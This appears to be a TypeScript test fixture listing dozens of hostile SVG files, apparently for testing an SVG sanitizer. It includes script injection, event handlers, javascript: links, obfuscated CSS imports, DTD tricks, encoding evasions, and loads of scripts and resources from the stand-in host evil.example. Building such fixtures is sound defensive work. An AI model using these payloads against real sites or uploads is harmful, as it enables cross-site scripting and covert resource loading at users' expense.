/** Drawings that try to run something, or to load something, when a browser opens them on their own. */

const EVIL = 'https://evil.example'
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inner: string, attributes = ''): string =>
  `<svg ${NS} width="40" height="30" ${attributes}><rect width="40" height="30"/>${inner}</svg>`
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const inner = svg('<script>alert(1)</script>')

const texts: Readonly<Record<string, string>> = {
  script: svg('<script>alert(1)</script>'),
  'prefixed script': svg('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
  'prefixed everything': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
  'prefix declared far above': `<svg ${NS} xmlns:z="http://www.w3.org/2000/svg"><g><g><z:script>alert(1)</z:script></g></g></svg>`,
  'prefix named by a character reference': `<svg ${NS} xmlns:z="http://www.w3.org/2000/&#115;vg"><z:script>alert(1)</z:script></svg>`,
  'script in CDATA': svg('<script><![CDATA[alert(1)]]></script>'),
  'script from elsewhere': svg(`<script href="${EVIL}/a.js"/><script xlink:href="${EVIL}/b.js"/>`),
  'script from data': svg('<script href="data:text/javascript,alert(1)"/>'),
  'XHTML script': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  'XHTML script as default': svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
  'XHTML frame': svg(
    `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" src="${EVIL}/"/>`,
  ),
  'XHTML picture': svg(
    `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${EVIL}/x.png" onerror="alert(1)"/>`,
  ),
  'XHTML in metadata': svg(
    '<metadata><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></metadata>',
  ),
  'XHTML in an unknown element': svg(
    '<x:y xmlns:x="urn:x"><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></x:y>',
  ),
  'SVG script in an unknown element': svg('<x:y xmlns:x="urn:x"><script>alert(1)</script></x:y>'),
  'XHTML link': svg(`<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${EVIL}/x.css"/>`),
  'XHTML refresh': svg(
    `<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${EVIL}/"/>`,
  ),
  'XHTML base': svg(`<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${EVIL}/"/><image href="a.png"/>`),
  'XHTML video': svg(
    `<h:video xmlns:h="http://www.w3.org/1999/xhtml" src="${EVIL}/a.mp4" poster="${EVIL}/a.png"/>`,
  ),
  'XHTML object': svg(
    `<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="${EVIL}/a"/><h:embed xmlns:h="http://www.w3.org/1999/xhtml" src="${EVIL}/b"/>`,
  ),
  foreignObject: svg(
    '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><script>alert(1)</script></body></foreignObject>',
  ),
  'onload on the root': svg('', 'onload="alert(1)"'),
  'onload with a prefix': svg('<rect xmlns:x="http://www.w3.org/2000/svg" x:onload="alert(1)"/>'),
  'onload in capitals': svg('', 'ONLOAD="alert(1)"'),
  'onerror of a picture': svg('<image href="missing.png" onerror="alert(1)"/>'),
  onbegin: svg('<animate attributeName="x" dur="1s" onbegin="alert(1)"/>'),
  'onload set by an animation': svg('<set attributeName="onload" to="alert(1)"/>'),
  'href set by an animation': svg(
    '<a><animate attributeName="href" to="javascript:alert(1)" begin="0s"/><set attributeName="xlink:href" to="javascript:alert(1)"/><rect width="40" height="30"/></a>',
  ),
  'picture set by an animation': svg(
    `<image width="9" height="9"><set attributeName="href" to="${EVIL}/a.png"/></image>`,
  ),
  'script link': svg('<a href="javascript:alert(1)"><rect width="40" height="30"/></a>'),
  'script link with a tab': svg(
    '<a xlink:href=" java&#9;script&#58;alert(1)"><rect width="40" height="30"/></a>',
  ),
  'data link': svg(
    '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><rect width="40" height="30"/></a>',
  ),
  'use of data': svg(
    `<use href="data:image/svg+xml;base64,${base64(svg('<g id="x"><script>alert(1)</script></g>'))}#x"/>`,
  ),
  'use of elsewhere': svg(`<use href="${EVIL}/a.svg#x"/><use xlink:href="//evil.example/b.svg#x"/>`),
  'picture from elsewhere': svg(
    `<image href="${EVIL}/a.png" width="9" height="9"/><image xlink:href="//evil.example/b.png" width="9" height="9"/>`,
  ),
  'picture with a script inside': svg(
    `<image href="data:image/svg+xml;base64,${base64(inner)}" width="9" height="9"/>`,
  ),
  'feImage from elsewhere': svg(
    `<filter id="f"><feImage href="${EVIL}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  'another prefix for xlink': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:q="http://www.w3.org/1999/xlink"><image q:href="${EVIL}/a.png" width="9" height="9"/></svg>`,
  'xml:base': svg('<image href="a.png" width="9" height="9"/>', `xml:base="${EVIL}/"`),
  'style import': svg(`<style>@import "${EVIL}/a.css"; @import url(${EVIL}/b.css);</style>`),
  'style import in CDATA': svg(`<style><![CDATA[@import "${EVIL}/a.css";]]></style>`),
  'style import cut by comments': svg(
    `<style>@im/**/port "${EVIL}/a.css"; /*x*/@import/**/"${EVIL}/b.css";</style>`,
  ),
  'style import with escapes': svg(
    `<style>@\\69mport "${EVIL}/a.css"; rect{fill:u\\72l(${EVIL}/b.svg#x);mask:\\75rl(${EVIL}/c.svg)}</style>`,
  ),
  'style import hidden by a string': svg(
    `<style>a{content:"rgb("} rect{mask:url(${EVIL}/a.svg)} a{content:")"}</style>`,
  ),
  'style import grown together': svg(
    `<style>@@import;import "${EVIL}/a.css"; rect{mask:u@import x;rl(${EVIL}/b.svg)}</style>`,
  ),
  'style of a font': svg(
    `<style>@font-face{font-family:x;src:url("${EVIL}/a.woff2")} text{font-family:x}</style><text y="9">a</text>`,
  ),
  'style of a picture': svg(
    `<style>svg{background:url(${EVIL}/a.png);background-image:image-set("${EVIL}/b.png" 1x);cursor:url( '${EVIL}/c.cur' ),auto}</style>`,
  ),
  'style attribute': svg(
    `<rect width="9" height="9" style="fill:url(${EVIL}/a.svg#x);filter:URL('${EVIL}/b.svg#f')"/>`,
  ),
  'presentation attribute': svg(
    `<rect width="9" height="9" fill="url(${EVIL}/a.svg#x)" mask="url(&quot;${EVIL}/b.svg#m&quot;)" clip-path="u\\rl(${EVIL}/c.svg#c)"/>`,
  ),
  'style from elsewhere': `<?xml-stylesheet href="${EVIL}/a.css"?>${svg('')}`,
  'style sheet that runs': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><svg ${NS}><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></xsl:template></xsl:stylesheet></svg>`,
  'entity that is a script': `<!DOCTYPE svg [<!ENTITY s "&#60;script>alert(1)&#60;/script>">]>${svg('&s;')}`,
  'entity that names the namespace': `<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/2000/svg">]><svg ${NS} xmlns:z="&n;"><z:script>alert(1)</z:script></svg>`,
  'attribute given by the document type': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg('')}`,
  'document type from elsewhere': `<!DOCTYPE svg SYSTEM "${EVIL}/a.dtd">${svg('')}`,
  'entity without end': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  'script inside of a title': svg(
    '<title><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></title>',
  ),
  'handler of Tiny SVG': svg(
    '<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  ),
  'end of CDATA in a style': svg('<style><![CDATA[a{}]]><script>alert(1)</script></style>'),
  'text that looks like markup': svg(
    '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text><desc>]]&gt;&lt;script&gt;alert(1)&lt;/script&gt;</desc>',
  ),
  'attribute that breaks out': svg(
    `<rect id='"/&gt;&lt;script&gt;alert(1)&lt;/script&gt;' width="9" height="9"/>`,
  ),
  'HTML page': `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
  'HTML page around a drawing': `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)">${svg('')}</body></html>`,
  'UTF-7 as declared': `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
}

/** Each by its name. */
export const hostileSvgs: Readonly<Record<string, Uint8Array>> = {
  ...Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)])),
  'UTF-16 script': Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${inner}`, 'utf16le'),
  'UTF-16 script, big-endian': Buffer.from(`\ufeff${inner}`, 'utf16le').swap16(),
  'UTF-16 script without a mark': Buffer.from(inner, 'utf16le'),
}
